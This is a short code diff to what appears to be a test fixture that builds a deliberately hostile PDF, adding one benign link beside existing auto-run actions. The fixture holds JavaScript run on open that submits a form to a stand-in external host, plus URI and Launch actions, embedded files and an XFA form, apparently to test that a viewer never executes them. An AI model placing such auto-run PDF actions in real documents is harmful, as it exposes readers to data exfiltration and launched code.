@@ -129,12 +129,15 @@ export const LINKED = fileOf([
   stream(LINKS.map(([text], at) => line(text, 270 - at * 30)).join('\n')),
 ]);
 
-/** A page that everything which can happen by itself is said of: scripts, programs, forms, addresses, a file within. */
+/**
+ * A page that everything which can happen by itself is said of: scripts, programs, forms, addresses, a file within. One link is good:
+ * by it one knows that all have been read.
+ */
 export const HOSTILE_PDF = fileOf([
   `<</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA <</WC 4 0 R /WP 5 0 R /DS 6 0 R>>
     /Names <</JavaScript <</Names [(run) 4 0 R]>> /EmbeddedFiles <</Names [(a) 8 0 R]>>>> /AcroForm <</Fields [7 0 R] /XFA 9 0 R>>>>`,
   `<</Type /Pages /Kids [3 0 R] /Count 1>>`,
-  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /AA <</O 5 0 R /C 6 0 R>> /Annots [7 0 R ${NEVER.map((action) => link(100, action)).join('\n')}]>>`,
+  `<</Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /AA <</O 5 0 R /C 6 0 R>> /Annots [7 0 R ${link(170, LINKS[1]![1])} ${NEVER.map((action) => link(100, action)).join('\n')}]>>`,
   `<</Type /Action /S /JavaScript /JS (hostileRan\\(\\); app.alert\\('run'\\); this.submitForm\\('https://elsewhere.example'\\);)>>`,
   `<</Type /Action /S /URI /URI (https://elsewhere.example/opened) /Next 4 0 R>>`,
   `<</Type /Action /S /Launch /F (https://elsewhere.example/launched)>>`,
